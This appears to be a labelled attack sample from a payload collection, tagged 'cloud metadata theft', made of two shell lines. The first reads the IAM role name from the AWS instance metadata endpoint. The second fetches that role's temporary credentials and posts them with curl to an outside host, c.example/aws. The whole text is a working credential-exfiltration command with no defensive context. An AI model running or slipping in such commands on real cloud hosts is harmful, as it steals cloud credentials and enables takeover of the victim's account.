# class: cloud metadata theft; style: two lines
R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$R" | curl -s -d @- https://c.example/aws
